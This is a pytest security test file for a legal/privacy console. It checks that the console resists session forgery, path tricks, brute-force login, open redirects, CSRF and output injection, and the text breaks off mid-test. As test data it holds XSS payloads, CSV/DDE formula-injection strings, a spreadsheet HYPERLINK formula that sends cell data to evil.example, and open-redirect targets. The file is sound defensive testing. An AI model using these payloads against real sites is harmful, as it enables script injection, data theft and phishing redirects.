"""The legal/privacy console (ugc_guard.console, docs/console.md) attacked from outside and from a signed-in
but hostile browser: authentication bypass, the login, CSRF, output encoding, receipt input, headers.

Every case drives the real console mounted at ``/console`` over a real SQLite ledger filled by
``tests/console/conftest.py``'s ``fill`` (plus hostile rows where a case needs them) and asserts the
exact answer: status and problem ``code``, the redirect target, or the page text.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import time
import urllib.parse
from collections.abc import Callable, Iterator
from typing import Any

import anyio
import itsdangerous
import pytest
from starlette.applications import Starlette
from starlette.routing import Mount
from starlette.testclient import TestClient
from starlette.types import ASGIApp, Message

from tests.console.conftest import PASSWORD, SECRET, Filled, login
from tests.console.helpers import mounted, signed_in, token
from ugc_guard.console import UpstreamAuth, console_app
from ugc_guard.console.app import SECURITY_HEADERS
from ugc_guard.console.auth import SESSION_COOKIE
from ugc_guard.console.login import LOGIN_COOKIE
from ugc_guard.console.views import MAX_RECEIPT_BYTES
from ugc_guard.ledger import AgeResult, ClientInfo, Ledger, TermsShown
from ugc_guard.policy import Policy

# Names a hostile uploader (or a careless operator typing a request reference) can get into the ledger.
MARKUP = ['"><script>alert(1)</script>.jpg', "</script><svg onload=alert(2)>.jpg", "javascript:alert(3)//.jpg", "x' onmouseover='alert(4).jpg"]
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open").jpg', "+cmd|' /C calc'!A0.jpg", "-2+3+cmd|' /C calc'!A0.jpg",
            "@SUM(1+1)*cmd|' /C calc'!A0.jpg", "\t=1+1.jpg", "\r=1+1.jpg"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_SUBJECT = '"><img src=x onerror=alert(5)>&format=csv'


@pytest.fixture
def hostile(filled: Filled) -> Iterator[Filled]:
    """The filled ledger plus submissions whose file names, withdrawal reasons and request references carry
    markup and spreadsheet formulas (subject ``mallory``; every one withdrawn, so on the takedown list)."""
    ledger = Ledger(filled.url, secret=SECRET)
    policy, campaign = filled.policy, filled.policy.campaign.id
    from tests.console.conftest import CLIENT, sha
    from ugc_guard.ledger import LicenceGrant, PortraitGrant, SubmissionFacts

    terms = TermsShown.from_policy(policy, "en")
    licence = LicenceGrant(policy.licence.id, policy.licence.version, policy.licence.texts["en"].sha256, ("publish",),
                           ("owns_rights_or_permission",))
    acceptance = ledger.record_acceptance(campaign, "mallory", terms, AgeResult("18+", "birth_date", "self-declared"),
                                          collection_method="click-wrap:unticked-checkbox", policy_digest=sha("p"), client=CLIENT)
    ids = []
    for name in MARKUP + FORMULAS:
        facts = SubmissionFacts(sha(name), 10, "image/jpeg", "image/jpeg", None, name)
        ids.append(ledger.record_submission(campaign, "mallory", facts, licence, PortraitGrant(True, True),
                                            acceptance_id=acceptance.entry_id, client=CLIENT).submission_id)
    for index, submission_id in enumerate(ids):
        reason = (MARKUP + FORMULAS)[index]
        ledger.withdraw_consent(campaign, "mallory", "portrait", [submission_id], reason=reason)
    for reference in MARKUP + FORMULAS:
        ledger.add_request(regime="gdpr", kind="access", received=dt.date.today(), campaign=campaign, subject="mallory",
                           reference=reference)
    ledger.add_request(regime="gdpr", kind="access", received=dt.date.today(), campaign=campaign, subject=HOSTILE_SUBJECT)
    ledger.close()
    yield filled


def upstream(filled: Filled, **options: Any) -> TestClient:
    """The console behind the operator's authentication, with nobody signed in."""
    app = Starlette(routes=[Mount("/console", console_app(filled.policy, database=filled.url, **options))])
    return TestClient(app, base_url="http://testserver")


def problem(answer: Any) -> tuple[int, str]:
    assert answer.headers["content-type"] == "application/problem+json", answer.text[:300]
    return answer.status_code, answer.json()["code"]


def data_paths(filled: Filled) -> list[str]:
    """Every console page that shows ledger data, with each export format."""
    case = f"/console/submissions/{filled.stored}"
    return ["/console/", "/console/?q=alice", "/console/?q=alice&format=csv", "/console/?q=alice&format=json", case,
            f"{case}?format=json", "/console/receipt", "/console/takedowns", "/console/takedowns?format=csv",
            "/console/takedowns?format=json", "/console/requests", "/console/requests?all=1", "/console/requests?format=csv",
            "/console/requests?format=json"]


def assert_refused_to_login(client: TestClient, filled: Filled) -> None:
    """Every data page and the receipt check send a visitor without a valid session to the login form."""
    for path in data_paths(filled):
        for method in ("GET", "HEAD"):
            answer = client.request(method, path, follow_redirects=False)
            assert (answer.status_code, answer.headers["location"]) == (303, "/console/login?" + urllib.parse.urlencode({"next": path})), path
            assert "alice" not in answer.text
    answer = client.post("/console/receipt", data={"receipt": filled.plain_receipt}, follow_redirects=False)
    assert (answer.status_code, answer.headers["location"]) == (303, "/console/login?next=%2Fconsole%2Freceipt")


def raw(app: ASGIApp, method: str, raw_path: str, headers: list[tuple[bytes, bytes]] | None = None) -> tuple[int, dict[str, str], bytes]:
    """Send one request with exactly this path (no client-side normalisation of ``..`` or ``//``)."""
    path, _, query = raw_path.partition("?")
    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": method, "scheme": "http",
             "path": urllib.parse.unquote(path), "raw_path": path.encode(), "root_path": "", "query_string": query.encode(),
             "headers": [(b"host", b"testserver"), *(headers or [])], "client": ("testclient", 50000), "server": ("testserver", 80)}
    sent: list[Message] = []

    async def receive() -> Message:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Message) -> None:
        sent.append(message)

    anyio.run(app, scope, receive, send)
    start = sent[0]
    body = b"".join(message.get("body", b"") for message in sent[1:])
    return start["status"], {name.decode().lower(): value.decode() for name, value in start["headers"]}, body


def session_cookie(filled: Filled) -> str:
    client = signed_in(filled)
    value = client.cookies.get(SESSION_COOKIE)
    assert value
    return value


def with_cookie(filled: Filled, value: str) -> TestClient:
    client = mounted(filled)
    client.cookies.set(SESSION_COOKIE, value, domain="testserver.local", path="/console")
    return client


def login_post(client: TestClient, *, username: str = "legal", password: str = PASSWORD, next_: str | None = None,
               headers: dict[str, str] | None = None) -> Any:
    form = {"csrf": token(client, "/console/login"), "username": username, "password": password}
    if next_ is not None:
        form["next"] = next_
    return client.post("/console/login", data=form, headers=headers, follow_redirects=False)


# -- 1. authentication bypass ----------------------------------------------------------------------------


def test_built_in_login_every_data_page_and_export_without_a_session_goes_to_the_login(filled: Filled) -> None:
    assert_refused_to_login(mounted(filled), filled)


def test_upstream_auth_every_data_page_and_export_without_a_user_is_401(filled: Filled) -> None:
    client = upstream(filled)
    for path in data_paths(filled):
        for method in ("GET", "HEAD"):
            answer = client.request(method, path, follow_redirects=False)
            assert answer.status_code == 401, (method, path)
            if method == "GET":
                assert problem(answer) == (401, "console-login-required")
    assert problem(client.post("/console/receipt", data={"receipt": filled.plain_receipt})) == (401, "console-login-required")
    assert problem(client.post("/console/login", data={"username": "legal", "password": PASSWORD})) == (404, "not-found")


def test_upstream_auth_an_unauthenticated_user_object_is_not_a_user(filled: Filled) -> None:
    from starlette.authentication import UnauthenticatedUser

    console = console_app(filled.policy, database=filled.url)

    async def app(scope: Any, receive: Any, send: Any) -> None:
        await console({**scope, "user": UnauthenticatedUser()}, receive, send)

    client = TestClient(Starlette(routes=[Mount("/console", app)]))
    assert problem(client.get("/console/takedowns?format=csv")) == (401, "console-login-required")


def test_the_stylesheet_is_the_only_page_served_without_a_session(filled: Filled) -> None:
    answer = mounted(filled).get("/console/console.css")
    assert answer.status_code == 200 and answer.headers["content-type"] == "text/css; charset=utf-8"
    assert "alice" not in answer.text and "<" not in answer.text


def forged(filled: Filled, kind: str) -> str:
    good = session_cookie(filled)
    serializer = itsdangerous.URLSafeTimedSerializer(b"another secret entirely", salt="ugc-guard-console-session")
    payload, _, signature = good.partition(".")
    if kind == "garbage":
        return "not-a-session"
    if kind == "empty-signature":
        return good.rsplit(".", 1)[0] + "."
    if kind == "tampered-payload":
        return payload[:-2] + ("A" if payload[-2] != "A" else "B") + payload[-1] + "." + signature
    if kind == "tampered-signature":
        middle = len(good) - 5  # not the last character: its low bits are base64 padding and decode the same
        return good[:middle] + ("A" if good[middle] != "A" else "B") + good[middle + 1:]
    if kind == "other-secret":
        return serializer.dumps({"u": "legal", "c": "x"})
    if kind == "unsigned-json":
        return json.dumps({"u": "legal", "c": "x"})
    if kind == "login-form-cookie":
        client = mounted(filled)
        client.get("/console/login")
        value = client.cookies.get(LOGIN_COOKIE)
        assert value
        return value
    raise AssertionError(kind)


@pytest.mark.parametrize("kind", ["garbage", "empty-signature", "tampered-payload", "tampered-signature", "other-secret",
                                  "unsigned-json", "login-form-cookie"])
def test_a_forged_or_tampered_session_cookie_is_no_session(filled: Filled, kind: str) -> None:
    assert_refused_to_login(with_cookie(filled, forged(filled, kind)), filled)


def test_an_expired_session_cookie_is_no_session(filled: Filled, monkeypatch: pytest.MonkeyPatch) -> None:
    auth = login()
    client = signed_in(filled, auth=auth)
    assert client.get("/console/takedowns").status_code == 200
    later = time.time() + auth.max_age + 5
    monkeypatch.setattr(itsdangerous.timed.time, "time", lambda: later)
    assert_refused_to_login(client, filled)


@pytest.mark.parametrize("payload", [{"u": "legal"}, {"u": "legal", "c": 7}, {"u": "someone-else", "c": "x"}, ["legal", "x"], "legal"],
                         ids=["no-token", "token-not-text", "other-user", "a-list", "a-string"])
def test_a_correctly_signed_cookie_of_the_wrong_shape_is_no_session(filled: Filled, payload: Any) -> None:
    from ugc_guard.console.app import _session_key

    key = _session_key(filled.policy)
    assert key is not None
    value = itsdangerous.URLSafeTimedSerializer(key, salt="ugc-guard-console-session").dumps(payload)
    assert_refused_to_login(with_cookie(filled, value), filled)


def test_a_session_of_another_campaigns_console_is_no_session(filled: Filled, make_policy: Callable[..., Policy]) -> None:
    """Two campaigns of one site share its secret; a legal officer of one must not read the other's ledger."""
    other = make_policy({"campaign": {"id": "other-campaign"}})
    theirs = TestClient(Starlette(routes=[Mount("/other", console_app(other, database=filled.url, auth=login(), secret=SECRET))]))
    answer = theirs.post("/other/login", data={"csrf": token(theirs, "/other/login"), "username": "legal", "password": PASSWORD},
                         follow_redirects=False)
    assert answer.status_code == 303
    value = theirs.cookies.get(SESSION_COOKIE)
    assert value
    assert_refused_to_login(with_cookie(filled, value), filled)


def test_a_form_token_of_another_campaigns_console_is_refused(filled: Filled, make_policy: Callable[..., Policy]) -> None:
    """UpstreamAuth: the same staff user, signed in to the site, posting campaign B's form token to campaign A's console."""
    from ugc_guard.console.app import _session_key
    from ugc_guard.console.auth import Session

    other = make_policy({"campaign": {"id": "other-campaign"}})
    mine, theirs = UpstreamAuth(_session_key(filled.policy)), UpstreamAuth(_session_key(other))

    class Request:
        scope = {"user": type("U", (), {"is_authenticated": True, "display_name": "dana"})()}

    ours, foreign = mine.session(Request()), theirs.session(Request())  # type: ignore[arg-type]
    assert isinstance(ours, Session) and isinstance(foreign, Session) and ours.csrf != foreign.csrf


# Path spellings that might reach a page around the session check: each must be refused or unknown.
SPELLINGS = [
    ("/console//takedowns?format=csv", 404), ("/console/takedowns/?format=csv", 307), ("/console/TAKEDOWNS?format=csv", 404),
    ("/console/Takedowns", 404), ("/console/%74akedowns?format=csv", 303), ("/console/takedowns%3Fformat=csv", 404),
    ("/console/takedowns;format=csv", 404), ("/console/./takedowns", 404), ("/console/x/../takedowns", 404),
    ("/console/%2e%2e/console/takedowns", 404), ("/console/submissions/%31", 303), ("/console/submissions/1/", 307),
    ("/console/submissions//1", 404), ("/console/submissions/-1", 404), ("/console/submissions/1.0", 404),
    ("/console/submissions/0x1", 404), ("/console/console.css/../takedowns", 404), ("/console/takedowns%00", 404),
    ("/console/takedowns%2F", 307), ("/console/requests\\", 404), ("/console/%2F%2Frequests", 404),
]


@pytest.mark.parametrize(("path", "status"), SPELLINGS)
def test_path_spellings_do_not_route_around_the_session_check(filled: Filled, path: str, status: int) -> None:
    app = Starlette(routes=[Mount("/console", console_app(filled.policy, database=filled.url, auth=login(), secret=SECRET))])
    code, headers, body = raw(app, "GET", path)
    assert code == status
    if status == 303:
        assert headers["location"].startswith("/console/login?next=")
    elif status == 307:  # the trailing slash is dropped: the same page, which then asks for a session
        assert headers["location"].startswith("http://testserver/console/") and not headers["location"].endswith("/")
        again = raw(app, "GET", urllib.parse.urlsplit(headers["location"]).path)
        assert again[0] == 303
    else:
        assert json.loads(body)["code"] == "not-found"
    assert b"alice" not in body and b"bob" not in body


@pytest.mark.parametrize("method", ["OPTIONS", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND"])
def test_other_methods_are_405_on_every_page_signed_in_or_not(filled: Filled, method: str) -> None:
    for client in (mounted(filled), signed_in(filled)):
        for path in [*data_paths(filled), "/console/login", "/console/logout", "/console/console.css"]:
            answer = client.request(method, path)
            assert problem(answer) == (405, "method-not-allowed"), path
            assert "alice" not in answer.text


def test_post_to_a_data_page_is_405_not_a_way_in(filled: Filled) -> None:
    client = mounted(filled)
    for path in data_paths(filled):
        if path.startswith("/console/receipt"):
            continue
        assert problem(client.post(path, data={"q": "alice"})) == (405, "method-not-allowed"), path


# -- 2. the login -----------------------------------------------------------------------------------------


def without_token(text: str) -> str:
    return re.sub(r'name="csrf" value="[^"]+"', "", text)


def test_a_wrong_user_name_and_a_wrong_password_get_the_same_answer(filled: Filled) -> None:
    answers = [login_post(mounted(filled), username=username, password=password)
               for username, password in (("legal", "wrong"), ("nobody", PASSWORD), ("nobody", "wrong"))]
    assert [answer.status_code for answer in answers] == [401, 401, 401]
    assert len({without_token(answer.text) for answer in answers}) == 1
    assert '<p class="error" id="error">wrong user name or password</p>' in answers[0].text
    assert len({tuple(sorted(k for k in answer.headers if k != "content-length")) for answer in answers}) == 1


def test_the_password_hash_runs_for_a_wrong_user_name_too(filled: Filled, monkeypatch: pytest.MonkeyPatch) -> None:
    from ugc_guard.console import auth as auth_module

    calls: list[str] = []
    real = auth_module.verify_password
    monkeypatch.setattr(auth_module, "verify_password", lambda password, hashed: calls.append(password) or real(password, hashed))
    login_post(mounted(filled), username="nobody", password="guess")
    assert calls == ["guess"]


@pytest.mark.parametrize("spelling", ["Legal", "LEGAL", " legal", "legal ", "legal\t", "legal\x00", "ｌｅｇａｌ", "legal%20"])
def test_the_user_name_is_exact_and_a_lockout_holds_across_spellings(filled: Filled, spelling: str) -> None:
    client = mounted(filled)
    answer = login_post(client, username=spelling)
    assert answer.status_code == 401 and "wrong user name or password" in answer.text  # the right password, another spelling
    for _ in range(4):
        assert login_post(client, username="legal", password="guess").status_code == 401
    for name in (spelling, "legal"):
        assert problem(login_post(client, username=name)) == (429, "rate-limited")


def test_a_lockout_ignores_forwarded_for_headers(filled: Filled) -> None:
    client = mounted(filled)
    for index in range(5):
        answer = login_post(client, password="guess", headers={"x-forwarded-for": f"203.0.113.{index}", "x-real-ip": f"203.0.113.{index}"})
        assert answer.status_code == 401
    answer = login_post(client, headers={"x-forwarded-for": "203.0.113.99"})
    assert problem(answer) == (429, "rate-limited") and answer.headers["retry-after"] == "900"


def test_twenty_failures_from_many_clients_lock_the_login_for_everyone(filled: Filled) -> None:
    auth = login()
    app = Starlette(routes=[Mount("/console", console_app(filled.policy, database=filled.url, auth=auth, secret=SECRET))])
    for index in range(4):
        client = TestClient(app, client=(f"198.51.100.{index}", 40000))
        for _ in range(5):
            assert login_post(client, password="guess").status_code == 401
        assert problem(login_post(client)) == (429, "rate-limited")
    fresh = TestClient(app, client=("192.0.2.200", 40000))
    assert problem(login_post(fresh)) == (429, "rate-limited")


def test_a_lockout_ends_when_its_window_passes(filled: Filled, monkeypatch: pytest.MonkeyPatch) -> None:
    from ugc_guard.console import auth as auth_module

    now = [1000.0]
    monkeypatch.setattr(auth_module.time, "monotonic", lambda: now[0])
    client = mounted(filled)
    for _ in range(5):
        assert login_post(client, password="guess").status_code == 401
    now[0] += 899
    assert problem(login_post(client)) == (429, "rate-limited")
    now[0] += 2
    assert login_post(client).status_code == 303


OFFSITE = ["https://evil.example/", "http://evil.example", "//evil.example", "//evil.example/console/", "/\\evil.example",
           "\\\\evil.example", "/\\/evil.example", "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
           "data:text/html,<script>alert(1)</script>", "%2F%2Fevil.example", "/%2F%2Fevil.example", "/console%2F..%2F..%2Fevil",
           "/console/../evil", "/console/%2e%2e/evil", "/console/%2E%2E/%2e%2e/evil", "/console/.%2e/evil", "/console/./../x",
           "/console/%5C%5Cevil.example", "/console/\\evil.example", "/consoleevil", "/console", "", "/", "/other-app/",
           "https:/evil.example", "/\t/evil.example", "http://testserver/console/takedowns"]


@pytest.mark.parametrize("target", OFFSITE)
def test_next_never_leaves_the_console(filled: Filled, target: str) -> None:
    answer = login_post(mounted(filled), next_=target)
    assert (answer.status_code, answer.headers["location"]) == (303, "/console/")


@pytest.mark.parametrize("target", ["/console/takedowns?format=csv", "/console/submissions/1", "/console/?q=a%2Fb&format=json"])
def test_next_inside_the_console_is_kept(filled: Filled, target: str) -> None:
    answer = login_post(mounted(filled), next_=target)
    assert (answer.status_code, answer.headers["location"]) == (303, target)


def test_control_characters_in_next_are_percent_encoded_not_stripped_by_the_browser(filled: Filled) -> None:
    answer = login_post(mounted(filled), next_="/console/\t/\nevil")
    assert (answer.status_code, answer.headers["location"]) == (303, "/console/%09/%0Aevil")


@pytest.mark.parametrize("target", OFFSITE[:12])
def test_the_login_form_never_offers_an_offsite_next(filled: Filled, target: str) -> None:
    page = mounted(filled).get("/console/login", params={"next": target})
    assert page.status_code == 200 and '<input type="hidden" name="next" value="/console/">' in page.text


def test_next_is_escaped_in_the_login_form(filled: Filled) -> None:
    page = mounted(filled).get("/console/login", params={"next": '/console/"><script>alert(1)</script>'})
    assert "<script>alert(1)" not in page.text
    assert 'value="/console/&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"' in page.text


@pytest.mark.parametrize(("case", "headers", "form"), [
    ("no-token", {}, {"username": "legal", "password": PASSWORD}),
    ("token-without-cookie", {}, {"csrf": "made-up", "username": "legal", "password": PASSWORD}),
    ("cross-site-origin", {"origin": "https://evil.example"}, None),
    ("null-origin", {"origin": "null"}, None),
    ("look-alike-origin", {"origin": "http://testserver.evil.example"}, None),
    ("userinfo-origin", {"origin": "http://evil.example@testserver"}, None),
    ("sec-fetch-cross-site", {"sec-fetch-site": "cross-site"}, None),
    ("sec-fetch-same-site", {"sec-fetch-site": "same-site"}, None),
])
def test_login_csrf_is_refused(filled: Filled, case: str, headers: dict[str, str], form: dict[str, str] | None) -> None:
    client = mounted(filled)
    if form is None:
        form = {"csrf": token(client, "/console/login"), "username": "legal", "password": PASSWORD}
    elif case == "no-token":
        token(client, "/console/login")  # the cookie is there; the form does not repeat it
    answer = client.post("/console/login", data=form, headers=headers, follow_redirects=False)
    assert problem(answer) == (403, "csrf-failed") and SESSION_COOKIE not in answer.headers.get("set-cookie", "")


def test_a_login_token_is_not_reusable_from_another_browser(filled: Filled) -> None:
    stolen = token(mounted(filled), "/console/login")
    victim = mounted(filled)
    token(victim, "/console/login")
    answer = victim.post("/console/login", data={"csrf": stolen, "username": "legal", "password": PASSWORD})
    assert problem(answer) == (403, "csrf-failed")


def test_same_origin_login_with_fetch_metadata_signs_in(filled: Filled) -> None:
    answer = login_post(mounted(filled), headers={"origin": "http://testserver", "sec-fetch-site": "same-origin"})
    assert (answer.status_code, answer.headers["location"]) == (303, "/console/")


BAD_LOGIN_BODIES = [
    ("json", {"content-type": "application/json"}, b'{"username": "legal", "password": "x"}', (403, "csrf-failed")),
    ("text", {"content-type": "text/plain"}, b"username=legal&password=x", (403, "csrf-failed")),
    ("declared-too-large", {"content-type": "application/x-www-form-urlencoded", "content-length": "4097"}, b"a" * 4097,
     (413, "form-too-large")),
    ("multipart-garbage", {"content-type": "multipart/form-data; boundary=x"}, b"garbage\r\n--x--", (400, "invalid-request")),
    ("multipart-no-boundary", {"content-type": "multipart/form-data"}, b"--x\r\n", (400, "invalid-request")),
    ("multipart-with-a-file", {"content-type": "multipart/form-data; boundary=B"},
     b'--B\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n\r\nhello\r\n--B--\r\n', (400, "invalid-request")),
    ("too-many-fields", {"content-type": "application/x-www-form-urlencoded"}, b"a=1&b=2&c=3&d=4&e=5", (400, "invalid-request")),
    ("huge-field-chunked", {"content-type": "application/x-www-form-urlencoded"}, None, (400, "invalid-request")),
]


@pytest.mark.parametrize(("case", "headers", "body", "expected"), BAD_LOGIN_BODIES, ids=[row[0] for row in BAD_LOGIN_BODIES])
def test_malformed_login_bodies_get_a_clean_4xx(filled: Filled, case: str, headers: dict[str, str], body: bytes | None,
                                                expected: tuple[int, str]) -> None:
    client = mounted(filled)
    token(client, "/console/login")
    content: Any = body if body is not None else (chunk for chunk in [b"username=", b"a" * 5000, b"&password=x"])
    assert problem(client.post("/console/login", content=content, headers=headers)) == expected


@pytest.mark.parametrize(("username", "password"), [("legal", "\udcff"), ("\x00legal", PASSWORD), ("legal", "p" * 3000),
                                                    ("l" * 1000, PASSWORD), ("legal", "")])
def test_odd_credentials_are_a_wrong_password(filled: Filled, username: str, password: str) -> None:
    client = mounted(filled)
    form = {"csrf": token(client, "/console/login"), "username": username, "password": password}
    body = urllib.parse.urlencode(form, errors="surrogateescape").encode()
    answer = client.post("/console/login", content=body, headers={"content-type": "application/x-www-form-urlencoded"})
    assert answer.status_code == 401 and "wrong user name or password" in answer.text


def test_invalid_utf8_in_a_login_form_is_a_wrong_password(filled: Filled) -> None:
    client = mounted(filled)
    body = b"csrf=" + token(client, "/console/login").encode() + b"&username=%ff%fe&password=\xff\xfe"
    answer = client.post("/console/login", content=body, headers={"content-type": "application/x-www-form-urlencoded"})
    assert answer.status_code == 401 and "wrong user name or password" in answer.text


def test_a_missing_field_asks_for_both(filled: Filled) -> None:
    client = mounted(filled)
    answer = client.post("/console/login", data={"csrf": token(client, "/console/login"), "username": "legal"})
    assert answer.status_code == 401 and '<p class="error" id="error">enter the user name and the password</p>' in answer.text


@pytest.mark.parametrize("length", ["abc", "-1", "1e3", " 12", "0x10", "١٢"])
def test_a_content_length_that_is_not_a_number_is_never_a_500(filled: Filled, length: str) -> None:
    """Servers normally refuse such a request; behind one that passes it on, the console still answers cleanly."""
    cookie = f"{SESSION_COOKIE}={session_cookie(filled)}".encode()
    app = Starlette(routes=[Mount("/console", console_app(filled.policy, database=filled.url, auth=login(), secret=SECRET))])
    for path, expected in (("/console/login", (403, "csrf-failed")), ("/console/receipt", (413, "form-too-large")),
                           ("/console/logout", (403, "csrf-failed"))):
        code, _, body = raw(app, "POST", path, [(b"content-length", length.encode()), (b"cookie", cookie),
                                                (b"content-type", b"application/x-www-form-urlencoded")])
        assert (code, json.loads(body)["code"]) == expected, path


# -- 3. CSRF on the signed-in POSTs ----------------------------------------------------------------------


def test_logout_without_the_form_token_keeps_the_session(filled: Filled) -> None:
    client = signed_in(filled)
    for form in ({}, {"csrf": "guess"}, {"csrf": ""}):
        assert problem(client.post("/console/logout", data=form)) == (403, "csrf-failed")
    assert client.get("/console/takedowns", follow_redirects=False).status_code == 200


@pytest.mark.parametrize("headers", [{"origin": "https://evil.example"}, {"origin": "null"}, {"sec-fetch-site": "cross-site"},
                                     {"sec-fetch-site": "same-site"}],
                         ids=["cross-site-origin", "null-origin", "sec-fetch-cross-site", "sec-fetch-same-site"])
def test_logout_from_another_site_is_refused_even_with_the_token(filled: Filled, headers: dict[str, str]) -> None:
    client = signed_in(filled)
    answer = client.post("/console/logout", data={"csrf": token(client, "/console/receipt")}, headers=headers, follow_redirects=False)
    assert problem(answer) == (403, "csrf-failed") and "set-cookie" not in answer.headers
    assert client.get("/console/takedowns", follow_redirects=False).status_code == 200


def test_logout_from_another_site_cannot_clear_the_cookie_of_a_signed_out_request(filled: Filled) -> None:
    """SameSite=Strict keeps the session cookie off a cross-site POST, but the answer's Set-Cookie would still apply."""
    answer = mounted(filled).post("/console/logout", headers={"origin": "https://evil.example"}, follow_redirects=False)
    assert problem(answer) == (403, "csrf-failed") and "set-cookie" not in answer.headers


def test_a_copy_of_the_session_cookie_signs_nobody_in_after_signing_out(filled: Filled) -> None:
    client = signed_in(filled)
    copied = client.cookies.get(SESSION_COOKIE)
    assert copied
    other = TestClient(client.app, base_url="http://testserver")  # a second browser, signed in on its own
    assert login_post(other).status_code == 303
    answer = client.post("/console/logout", data={"csrf": token(client, "/console/receipt")}, follow_redirects=False)
    assert (answer.status_code, answer.headers["location"]) == (303, "/console/login")
    client.cookies.clear()
    client.cookies.set(SESSION_COOKIE, copied, domain="testserver.local", path="/console")
    assert_refused_to_login(client, filled)
    assert other.get("/console/takedowns", follow_redirects=False).status_code == 200  # only that session ended
    assert login_post(client).status_code == 303  # and signing in again gives a new one
    assert client.get("/console/takedowns", follow_redirects=False).status_code == 200


def test_a_malformed_logout_body_is_a_400(filled: Filled) -> None:
    client = signed_in(filled)
    answer = client.post("/console/logout", content=b"--B\r\nnonsense", headers={"content-type": "multipart/form-data; boundary=B"})
    assert problem(answer) == (403, "csrf-failed")  # no csrf field could be read
    answer = client.post("/console/logout", content=b"a=1&b=2&c=3", headers={"content-type": "application/x-www-form-urlencoded"})
    assert problem(answer) == (400, "invalid-request")
    assert client.get("/console/takedowns", follow_redirects=False).status_code == 200


@pytest.mark.parametrize(("case", "headers"), [
    ("no-token", {}), ("wrong-token", {}), ("another-sessions-token", {}), ("cross-site-origin", {"origin": "https://evil.example"}),
    ("null-origin", {"origin": "null"}), ("sec-fetch-cross-site", {"sec-fetch-site": "cross-site"}),
    ("other-port-origin", {"origin": "http://testserver:8080"}),
])
def test_receipt_check_csrf_is_refused(filled: Filled, case: str, headers: dict[str, str]) -> None:
    client = signed_in(filled)
    form = {"receipt": filled.plain_receipt, "csrf": token(client, "/console/receipt")}
    if case == "no-token":
        del form["csrf"]
    elif case == "wrong-token":
        form["csrf"] = form["csrf"][:-1] + ("A" if form["csrf"][-1] != "A" else "B")
    elif case == "another-sessions-token":
        form["csrf"] = token(signed_in(filled), "/console/receipt")
    answer = client.post("/console/receipt", data=form, headers=headers)
    assert problem(answer) == (403, "csrf-failed") and "genuine" not in answer.text


def test_upstream_receipt_check_needs_the_users_own_token(filled: Filled) -> None:
    from starlette.authentication import AuthCredentials, AuthenticationBackend, SimpleUser
    from starlette.middleware import Middleware
    from starlette.middleware.authentication import AuthenticationMiddleware
    from starlette.requests import HTTPConnection

    class HeaderUser(AuthenticationBackend):
        async def authenticate(self, conn: HTTPConnection) -> tuple[AuthCredentials, SimpleUser] | None:
            name = conn.headers.get("x-test-user")
            return (AuthCredentials(["authenticated"]), SimpleUser(name)) if name else None

    app = Starlette(routes=[Mount("/console", console_app(filled.policy, database=filled.url))],
                    middleware=[Middleware(AuthenticationMiddleware, backend=HeaderUser())])
    dana, erin = TestClient(app, headers={"x-test-user": "dana"}), TestClient(app, headers={"x-test-user": "erin"})
    stolen = token(erin, "/console/receipt")
    assert problem(dana.post("/console/receipt", data={"csrf": stolen, "receipt": filled.plain_receipt})) == (403, "csrf-failed")
    answer = dana.post("/console/receipt", data={"csrf": token(dana, "/console/receipt"), "receipt": filled.plain_receipt})
    assert answer.status_code == 200 and "This receipt is genuine" in answer.text


# -- 4. output encoding ----------------------------------------------------------------------------------


def escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&#34;").replace("'", "&#39;")


def test_markup_in_the_ledger_never_renders_as_markup(hostile: Filled) -> None:
    client = signed_in(hostile)
    pages = [client.get("/console/", params={"q": "mallory"}).text, client.get("/console/takedowns").text,
             client.get("/console/requests").text]
    case_pages = [client.get(f"/console/submissions/{row['submission_id']}").text
                  for row in client.get("/console/", params={"q": "mallory", "format": "json"}).json()]
    assert len(case_pages) == len(MARKUP + FORMULAS)
    for page in pages + case_pages:
        for raw_text in ("<script>alert(1)", "<svg onload", "' onmouseover='"):
            assert raw_text not in page
        assert 'href="javascript:' not in page.lower() and "<img" not in page
    for value in MARKUP:
        assert escaped(value) in pages[0] and escaped(value) in pages[1] and escaped(value) in pages[2]
    assert all(any(escaped(value) in page for page in case_pages) for value in MARKUP)


def test_a_hostile_subject_is_escaped_in_text_and_url_encoded_in_its_link(hostile: Filled) -> None:
    page = signed_in(hostile).get("/console/requests").text
    assert "<img src=x" not in page
    link = '<a href="/console/?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert%285%29%3E%26format%3Dcsv">'
    assert link + escaped(HOSTILE_SUBJECT) + "</a>" in page


def test_a_hostile_query_is_escaped_and_url_encoded(hostile: Filled) -> None:
    client = signed_in(hostile)
    query = '"><script>alert(1)</script>&format=csv#x'
    page = client.get("/console/", params={"q": query})
    assert page.status_code == 200 and "<script>alert(1)" not in page.text
    assert 'value="&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;&amp;format=csv#x"' in page.text


@pytest.mark.parametrize("path", ["/console/?q=mallory&format=csv", "/console/takedowns?format=csv", "/console/requests?format=csv"])
def test_csv_exports_neutralise_formulas(hostile: Filled, path: str) -> None:
    answer = signed_in(hostile).get(path)
    assert answer.status_code == 200 and answer.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START) and not re.fullmatch(r"-\d+", cell)]  # days_left: a number
    for value in FORMULAS:
        assert "'" + value in cells, value
    for value in MARKUP:  # CSV is not HTML: markup stays as it is, quoted by the CSV writer
        assert value in cells or "'" + value in cells


@pytest.mark.parametrize("path", ["/console/?q=mallory&format=json", "/console/takedowns?format=json", "/console/requests?format=json"])
def test_json_exports_carry_values_as_they_are_as_json(hostile: Filled, path: str) -> None:
    answer = signed_in(hostile).get(path)
    assert answer.headers["content-type"] == "application/json" and answer.headers["content-disposition"].startswith("attachment;")
    values = {value for row in answer.json() for value in row.values() if isinstance(value, str)}
